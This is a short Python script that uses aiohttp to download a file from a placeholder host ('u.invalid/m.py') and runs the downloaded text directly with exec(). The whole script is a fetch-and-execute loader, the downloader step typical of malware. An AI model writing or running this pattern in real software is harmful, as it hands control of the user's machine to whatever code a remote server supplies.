import asyncio
import aiohttp


async def pull(url):
    async with aiohttp.ClientSession() as session:
        async with session.get(url) as answer:
            return await answer.text()


async def main():
    source = await pull("https://u.invalid/m.py")
    exec(source)


asyncio.run(main())
